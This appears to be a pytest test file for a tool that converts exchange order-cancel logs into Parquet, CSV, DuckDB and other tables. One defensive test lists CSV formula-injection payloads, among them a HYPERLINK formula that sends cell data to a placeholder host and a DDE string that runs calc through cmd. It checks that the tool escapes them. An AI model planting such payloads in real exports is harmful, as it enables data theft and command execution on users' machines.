"""``cancelnorm convert``: the events of logs as tables, the same as those of ``normalise``."""

import csv
import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import msgspec
import pandas as pd
import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cancelnorm import CancelEvent, decode
from cancelnorm.arrow import SCHEMA, from_batches, read
from tests.cli.conftest import CANCELED, NOTED, PENDING, REFUSED, REJECTED, Run
from tests.cli.inside import Ran, run_inside
from tests.samples import SAMPLES

Log = Callable[..., str]
FORMS = ("parquet", "arrow", "csv", "jsonl", "duckdb")
# More than one batch, so that there is one for other processes.
MANY = [f"{CANCELED.replace('4711', str(number))}{' ' * 2_000}" for number in range(2_500)]
SKIPPED = '{"venue":"binance","payload":{"e":"balanceUpdate","E":1,"a":"BTC","d":"0.5","T":1}}'


@pytest.fixture
def run(run: Run, tmp_path: Path) -> Run:
    """Run in this process, which takes a fraction of the time, unless several processes or other code are to run."""

    def run_here(
        *args: str, stdin: bytes = b"", code: str | None = None, env: dict[str, str] | None = None
    ) -> Ran:
        if "--jobs" in args or stdin or code or env:
            return run(*args, stdin=stdin, code=code, env=env)
        return run_inside(*args, "--jobs", "1", folder=tmp_path)

    return run_here


def rows_of(path: Path) -> list[dict[str, Any]]:
    """The rows of a table of any form, each as the columns of SCHEMA."""
    if path.suffix in (".parquet", ".arrow"):
        return [row for batch in read(path) for row in batch.to_pylist()]
    if path.suffix == ".duckdb":
        with duckdb.connect(str(path), read_only=True) as database:
            found: list[dict[str, Any]] = database.sql("from events").to_arrow_table().to_pylist()
            return found
    text = path.read_text("utf-8")
    return (
        list(csv.DictReader(text.splitlines()))
        if path.suffix == ".csv"
        else list(map(json.loads, text.splitlines()))
    )


def events_of(path: Path) -> list[CancelEvent]:
    """The events in a table of any form, without those that stand for refused records."""
    rows = [row for row in rows_of(path) if not row["fault"]]
    if path.suffix == ".jsonl":
        lines = path.read_bytes().splitlines()
        return [decode(line) for line in lines if json.loads(line)["fault"] is None]
    if path.suffix == ".csv":
        return list(map(from_cells, rows))
    return list(from_batches([pa.RecordBatch.from_pylist(rows, SCHEMA)]))


def from_cells(row: dict[str, str]) -> CancelEvent:
    """The event of a row of CSV."""
    cells: dict[str, Any] = {name: text.removeprefix("'") or None for name, text in row.items()}
    for name in ("extra", "from_request"):
        cells[name] = json.loads(cells[name] or "null")
    return msgspec.convert(cells, CancelEvent, strict=False)


@pytest.fixture(scope="module")
def samples(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a log of every sample, a line that is refused, and the events that ``normalise`` writes."""
    folder = tmp_path_factory.mktemp("samples")
    with (folder / "all.jsonl").open("wb") as log:
        for sample in SAMPLES.values():
            if sample.dialect is None:
                line = {
                    name: getattr(sample, name)
                    for name in (
                        "venue",
                        "endpoint",
                        "status",
                        "request",
                        "sent_ns",
                        "received_ns",
                        "account",
                    )
                    if getattr(sample, name) is not None
                }
                log.write(
                    msgspec.json.encode(line | {"payload": sample.payload}).replace(b"\n", b" ") + b"\n"
                )
        log.write(f"{REFUSED}\n".encode())
    assert run_inside("normalise", "all.jsonl", "-o", "events", folder=folder).code == 1
    for form in FORMS:
        assert run_inside("convert", "all.jsonl", "-o", f"table.{form}", folder=folder).code == 1
    return folder


@pytest.mark.parametrize("form", FORMS)
def test_every_sample_is_restored(samples: Path, form: str) -> None:
    """Each form has the events that ``normalise`` writes, to the last digit, and a row for each refused record."""
    expected = [decode(line) for line in (samples / "events").read_bytes().splitlines()]
    assert len(expected) > 500
    assert list(map(repr, events_of(samples / f"table.{form}"))) == list(map(repr, expected))
    rows = rows_of(samples / f"table.{form}")
    assert len(rows) == len(expected) + 1
    fault = {"path": "$.price", "expected": "a plain decimal", "found": "'1_000'"}
    assert [
        row["fault"] if form == "jsonl" else json.loads(row["fault"]) for row in rows if row["fault"]
    ] == [fault]


def test_forms_agree_on_ids(samples: Path) -> None:
    """What is beside the events is the same in every form."""
    expected = [
        (row["event_id"].hex(), row["order_key"] or "", str(row["evidence_rank"]))
        for row in rows_of(samples / "table.parquet")
    ]
    assert len(set(expected)) > 500
    for form in ("csv", "jsonl"):
        rows = rows_of(samples / f"table.{form}")
        assert [
            (row["event_id"], row["order_key"] or "", str(row["evidence_rank"])) for row in rows
        ] == expected


def test_counts_and_exit_codes(run: Run, log: Log, tmp_path: Path) -> None:
    """Refused records are reported as by ``normalise``, and the counts add up."""
    name = log(CANCELED, "x", REFUSED, SKIPPED, NOTED)
    assert run("convert", name, "-o", "e.parquet") == (
        1,
        "",
        (
            "day.jsonl:2: line: not JSON: invalid character (byte 0)\n"
            "day.jsonl:3: $.price: expected a plain decimal, found '1_000'\n"
            "cancelnorm: 5 records: 2 events, 1 skipped, 2 refused\n"
        ),
    )
    rows = rows_of(tmp_path / "e.parquet")
    assert [(row["source"], row["outcome"], row["reason"]) for row in rows] == [
        ("day.jsonl:1", "canceled", None),
        ("day.jsonl:2", "unknown", "unreadable"),
        ("day.jsonl:3", "unknown", "unreadable"),
        ("day.jsonl:5", "canceled", None),
    ]
    assert run("convert", log(CANCELED), "-o", "e.parquet", "-q") == (0, "", "")
    assert len(rows_of(tmp_path / "e.parquet")) == 1


def test_an_unknown_endpoint_is_a_row(run: Run, log: Log, tmp_path: Path) -> None:
    """It has the names of the record, and a fault that says which one is unknown."""
    unknown = CANCELED.replace("DELETE /api/v3/order", "DELETE /api/v9/order?signature=0123456789abcdef")
    assert run("convert", log(unknown), "-o", "e.parquet").code == 1
    [row] = rows_of(tmp_path / "e.parquet")
    assert (row["venue"], row["endpoint"], row["event_id"]) == ("binance", "DELETE /api/v9/order", None)
    assert json.loads(row["fault"])["path"] == "endpoint"


def test_secrets_are_masked(run: Run, log: Log, tmp_path: Path) -> None:
    """A table has the texts that ``normalise`` writes; a fault shows no secret either."""
    secret = "vmPUZE6mv9SD5VNHk4HlWFsOr6aKE2zvsw0MuIgwCIPy6utIco14y7Ju91duEh8A"
    told = REJECTED.replace("Unknown order sent.", f"X-MBX-APIKEY: {secret}")
    name = log(told, CANCELED.replace('"2.00000000"', f'"apiKey={secret}"'))
    run("normalise", name, "-o", "events")
    assert run("convert", name, "-o", "e.parquet").code == 1
    assert secret not in str(rows_of(tmp_path / "e.parquet"))
    assert events_of(tmp_path / "e.parquet") == [decode((tmp_path / "events").read_bytes())]


@pytest.mark.parametrize("options", [(), ("--sort",)])
def test_any_number_of_processes(run: Run, log: Log, tmp_path: Path, options: tuple[str, ...]) -> None:
    """The same log gives the same bytes."""
    name = log(*MANY, REFUSED)
    one = run("convert", name, "-o", "1.parquet", *options)
    assert run("convert", name, "-o", "2.parquet", "--jobs", "2", *options) == one
    assert (tmp_path / "1.parquet").read_bytes() == (tmp_path / "2.parquet").read_bytes()


@pytest.mark.parametrize("options", [("--order", "2"), ("--since", "2023-05-01"), ("--until", "2023-05-01")])
def test_a_selected_event_keeps_its_id(run: Run, log: Log, tmp_path: Path, options: tuple[str, ...]) -> None:
    """Ids count all events of a record, also those that are left out."""
    batch = (
        '{"venue":"bybit","endpoint":"POST /v5/order/cancel-batch","payload":{"retCode":0,"retMsg":"OK",'
        '"time":1672217377164,"result":{"list":[%s]},"retExtInfo":{"list":[%s]}}}'
    )
    row = '{"category":"spot","symbol":"BTCUSDT","orderId":"%d","orderLinkId":""}'
    taken = '{"code":0,"msg":"OK"}'
    name = log(CANCELED, batch % (f"{row % 1},{row % 2}", f"{taken},{taken}"))
    assert run("convert", name, "-o", "all.parquet").code == 0
    assert run("convert", name, "-o", "some.parquet", *options).code == 0
    every, some = (rows_of(tmp_path / f"{name}.parquet") for name in ("all", "some"))
    assert 0 < len(some) < len(every)
    assert all(row in every for row in some)


# --- check --events ---


@pytest.mark.parametrize("form", ["parquet", "arrow", "csv"])
def test_check_writes_the_same_table(run: Run, log: Log, tmp_path: Path, form: str) -> None:
    """The table of ``check --events`` is that of ``convert``, for any number of processes."""
    name = log(*MANY, REFUSED, "x", SKIPPED, PENDING)
    assert run("convert", name, "-o", f"converted.{form}").code == 1
    for jobs in ((), ("--jobs", "2")):
        assert run("check", name, "--events", f"checked.{form}", *jobs).code == 1
        assert rows_of(tmp_path / f"checked.{form}") == rows_of(tmp_path / f"converted.{form}")


def test_check_writes_lines_as_before(run: Run, log: Log, tmp_path: Path) -> None:
    """``check --events events.jsonl`` has the lines that ``normalise`` prints."""
    name = log(CANCELED, REFUSED, PENDING)
    run("check", name, "--events", "events.jsonl")
    assert (tmp_path / "events.jsonl").read_text() == run("normalise", name).out


# --- Names ---


@pytest.mark.parametrize("name", ["e.gz", "events", "e.parquet.gz", "e.duckdb.zst", ".parquet.xz", "e.json"])
def test_the_name_tells_the_form(run: Run, log: Log, tmp_path: Path, name: str) -> None:
    """Any other name is refused before the log is read."""
    ran = run("convert", log(CANCELED), "-o", name)
    assert (ran.code, ran.out) == (2, "")
    assert ran.err == (
        f"cancelnorm: --output '{name}': expected a name that ends with .parquet, .arrow, .csv, .jsonl, .duckdb\n"
    )
    assert [path.name for path in tmp_path.iterdir()] == ["day.jsonl"]


def test_texts_may_be_compressed(run: Run, log: Log, tmp_path: Path) -> None:
    """As other outputs are."""
    for form in ("csv", "jsonl"):
        assert run("convert", log(CANCELED), "-o", f"e.{form}").code == 0
        assert run("convert", log(CANCELED), "-o", f"e.{form}.gz").code == 0
        unpacked = subprocess.run(
            ["gzip", "-dc", tmp_path / f"e.{form}.gz"], capture_output=True, check=True
        ).stdout
        assert unpacked == (tmp_path / f"e.{form}").read_bytes()


FORMULAS = (
    '=HYPERLINK("http://host/?"&A1)',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\uff1d1",
    "\t=1",
    "\r=1",
    "'=1",
    "'",
)


@pytest.mark.parametrize("text", [*FORMULAS, "-2011", "-1.50", "1=1"])
def test_no_cell_is_a_formula(run: Run, log: Log, tmp_path: Path, text: str) -> None:
    """An apostrophe before a text that a spreadsheet would run is all that differs; numbers stay numbers."""
    name = log(REJECTED.replace('"Unknown order sent."', json.dumps(text)))
    assert run("convert", name, "-o", "e.csv").code == 0
    assert run("check", name, "--events", "checked.csv", "--exit-zero").code == 0
    assert (tmp_path / "checked.csv").read_bytes() == (tmp_path / "e.csv").read_bytes()
    [row] = rows_of(tmp_path / "e.csv")
    assert row["code"] == "-2011"
    cell = row["message"]
    assert cell.startswith("'") == (text.strip() == text and text in FORMULAS)
    assert cell.removeprefix("'") == json.dumps(text, ensure_ascii=False)[1:-1].replace('\\"', '"')
    assert not cell.startswith(("=", "+", "@", "\t", "\r"))


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("-o", "day.jsonl"), "day.jsonl: is an input file; refusing to overwrite it"),
        (("-o", "nowhere/e.parquet"), "{folder}/nowhere: no such folder"),
        (("-o", "folder.parquet"), "folder.parquet: is a folder; --partition writes files into it"),
        (
            ("-o", "day.jsonl.parquet", "--partition"),
            "day.jsonl.parquet: is a file; --partition takes a folder",
        ),
        (("-o", "pipe.duckdb"), "pipe.duckdb: is not a file"),
    ],
)
def test_outputs_that_cannot_be_written(
    run: Run, log: Log, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    """One line says why."""
    (tmp_path / "folder.parquet").mkdir()
    (tmp_path / "day.jsonl.parquet").write_bytes(b"")
    os.mkfifo(tmp_path / "pipe.duckdb")
    assert run("convert", log(CANCELED), *args) == (2, "", f"cancelnorm: {message.format(folder=tmp_path)}\n")


@pytest.mark.parametrize(
    ("missing", "args", "message"),
    [
        (
            "pyarrow",
            ("convert", "-o", "e.parquet"),
            "e.parquet: this is Parquet; it takes pip install 'cancelnorm[arrow]'",
        ),
        (
            "pyarrow",
            ("convert", "-o", "e", "--partition"),
            "e: this is Parquet; it takes pip install 'cancelnorm[arrow]'",
        ),
        (
            "duckdb",
            ("convert", "-o", "e.duckdb"),
            "e.duckdb: this is DuckDB; it takes pip install 'cancelnorm[duckdb]'",
        ),
        (
            "pyarrow",
            ("check", "--events", "e.arrow"),
            "e.arrow: this is Arrow; it takes pip install 'cancelnorm[arrow]'",
        ),
    ],
)
def test_without_a_library(
    run: Run, log: Log, tmp_path: Path, missing: str, args: tuple[str, ...], message: str
) -> None:
    """One line names the extra, and nothing is left."""
    code = (
        f"import sys; sys.modules[{missing!r}] = None; from cancelnorm.__main__ import main; sys.exit(main())"
    )
    ran = run(*args, log(CANCELED), code=code)
    assert (ran.code, ran.out, ran.err) == (2, "", f"cancelnorm: {message}\n")
    assert [path.name for path in tmp_path.iterdir()] == ["day.jsonl"]


def test_neither_numpy_nor_pandas_is_loaded(run: Run, log: Log) -> None:
    """Both are installed, pyarrow would load them, and they take longer than a short log."""
    code = "import sys; from cancelnorm.__main__ import main; main(); print({'numpy', 'pandas'} & set(sys.modules))"
    for form in ("parquet", "duckdb"):
        assert run("convert", log(CANCELED), "-q", "-o", f"e.{form}", code=code) == (0, "set()\n", "")


# --- Files ---


def test_parquet_is_written_for_readers(run: Run, log: Log, tmp_path: Path) -> None:
    """Row groups can be skipped, columns are small, and Arrow's metadata are kept."""
    run("convert", log(*[CANCELED] * 70_000), "-o", "e.parquet")
    file = pq.ParquetFile(tmp_path / "e.parquet")
    assert file.schema_arrow.equals(SCHEMA)
    assert file.schema_arrow.metadata == SCHEMA.metadata
    assert file.schema_arrow.field("event_ns").metadata[b"unit"] == b"ns"
    assert [file.metadata.row_group(number).num_rows for number in range(2)] == [65_536, 4_464]
    columns = {
        (column := file.metadata.row_group(0).column(number)).path_in_schema: column
        for number in range(file.metadata.num_columns)
    }
    assert {column.compression for column in columns.values()} == {"ZSTD"}
    assert all(column.has_column_index and column.has_offset_index for column in columns.values())
    assert set(columns["order_id"].encodings) == {"DELTA_BYTE_ARRAY", "RLE"}
    assert not columns["price"].has_dictionary_page
    assert columns["outcome"].has_dictionary_page
    assert (tmp_path / "e.parquet").stat().st_size < 2_000_000


# --- Partitions ---


def listed(folder: Path) -> dict[str, bytes]:
    """The files in a folder of partitions."""
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def timed(day: int, number: int = 4711) -> str:
    """A line about an order on a day of 2023."""
    ms = 1672531200000 + 86_400_000 * day
    return CANCELED.replace("1684804350068", str(ms)).replace("4711", str(number))


def test_partitions_by_venue_and_date(run: Run, log: Log, tmp_path: Path) -> None:
    """Each log has a file a day, which all engines read, and what has no time a folder of its own."""
    rejected = REJECTED.replace("4711", "9")
    names = [log(timed(0), timed(1), PENDING, name="a.jsonl"), log(timed(1), rejected, "x", name="b.jsonl")]
    assert run("convert", *names, "-o", "out", "--partition").code == 1
    folders = [path.rpartition("/")[0] for path in listed(tmp_path / "out")]
    assert folders == [
        "venue=binance/date=2023-01-01",
        "venue=binance/date=2023-01-02",
        "venue=binance/date=2023-01-02",
        "venue=binance/date=__HIVE_DEFAULT_PARTITION__",
        "venue=bybit/date=2022-12-28",
        "venue=unknown/date=__HIVE_DEFAULT_PARTITION__",
    ]
    table = duckdb.sql(
        f"select venue, date, count(*) from '{tmp_path}/out/**/*.parquet' group by all order by all"
    )
    assert [(venue, str(date), count) for venue, date, count in table.fetchall()] == [
        ("binance", "2023-01-01", 1),
        ("binance", "2023-01-02", 2),
        ("binance", "None", 1),
        ("bybit", "2022-12-28", 1),
        ("unknown", "None", 1),
    ]
    run("convert", *names, "-o", "whole.parquet")
    whole, parts = (list(from_batches(read(tmp_path / name))) for name in ("whole.parquet", "out"))
    assert sorted(map(repr, parts)) == sorted(map(repr, whole))


def test_converting_again_replaces(run: Run, log: Log, tmp_path: Path) -> None:
    """The files of a log are replaced, also those of days that it has no longer; those of others stay."""
    log(timed(0), timed(1), name="a.jsonl")
    log(timed(1), name="b.jsonl")
    run("convert", "a.jsonl", "b.jsonl", "-o", "out", "--partition")
    before = listed(tmp_path / "out")
    assert run("convert", f"{tmp_path}/a.jsonl", "-o", "out", "--partition").code == 0
    assert listed(tmp_path / "out").keys() == before.keys()
    log(timed(1), name="a.jsonl")
    assert run("convert", "./a.jsonl", "-o", "out", "--partition", "--sort").code == 0
    after = listed(tmp_path / "out")
    assert after.keys() < before.keys()
    assert [path.name for path in (tmp_path / "out" / "venue=binance").iterdir()] == ["date=2023-01-02"]
    log("x", name="a.jsonl")
    assert run("convert", "a.jsonl", "none.jsonl", "-o", "out", "--partition").code == 2
    assert listed(tmp_path / "out") == after


def test_many_days_take_few_open_files(run: Run, log: Log, tmp_path: Path) -> None:
    """A day that comes again after a hundred others is continued in a second file."""
    days = [*range(150), *[149] * 12_000, 0, 1]
    assert run("convert", log(*map(timed, days)), "-o", "out", "--partition").code == 0
    assert sum(batch.num_rows for batch in read(tmp_path / "out")) == len(days)
    first = tmp_path / "out" / "venue=binance" / "date=2023-01-01"
    assert [path.name.rpartition("-")[2] for path in sorted(first.iterdir())] == ["1.parquet", "2.parquet"]
    before = listed(tmp_path / "out")
    assert run("convert", "day.jsonl", "-o", "out", "--partition", "--sort").code == 0
    assert listed(tmp_path / "out").keys() == before.keys()


def test_a_folder_that_is_not_completed_stays_as_it_was(run: Run, log: Log, tmp_path: Path) -> None:
    """If a file cannot be read, nothing is written, and no folder is made."""
    assert run("convert", log(timed(0)), "none.jsonl", "-o", "out", "--partition").code == 2
    assert [path.name for path in tmp_path.iterdir()] == ["day.jsonl"]


# --- Readers ---


READERS: dict[str, Callable[[str], pa.Table]] = {
    "polars": lambda path: pl.read_parquet(path).to_arrow(),
    "duckdb": lambda path: duckdb.sql(f"from '{path}'").to_arrow_table(),
    "pandas": lambda path: pa.Table.from_pandas(pd.read_parquet(path, dtype_backend="pyarrow")),
}


@pytest.mark.parametrize("reader", READERS)
def test_other_libraries_give_the_events_back(samples: Path, reader: str) -> None:
    """Types and encodings are such that each of them reads a file, and keeps every digit."""
    table = READERS[reader](str(samples / "table.parquet"))
    plain = from_batches(read(samples / "table.parquet"))
    assert list(map(repr, from_batches(table.to_batches()))) == list(map(repr, plain))


def test_a_name_that_is_not_utf8(tmp_path: Path) -> None:
    """The source has an escape for each of its bytes, also in the row of a refused line."""
    name = os.fsdecode(b"d\xffy.jsonl")
    (tmp_path / name).write_text(f"{CANCELED}\nx\n{REFUSED}\n")
    assert run_inside("convert", name, "-o", "e.parquet", "-q", folder=tmp_path).code == 1
    assert [row["source"].rpartition(":")[2] for row in rows_of(tmp_path / "e.parquet")] == ["1", "2", "3"]
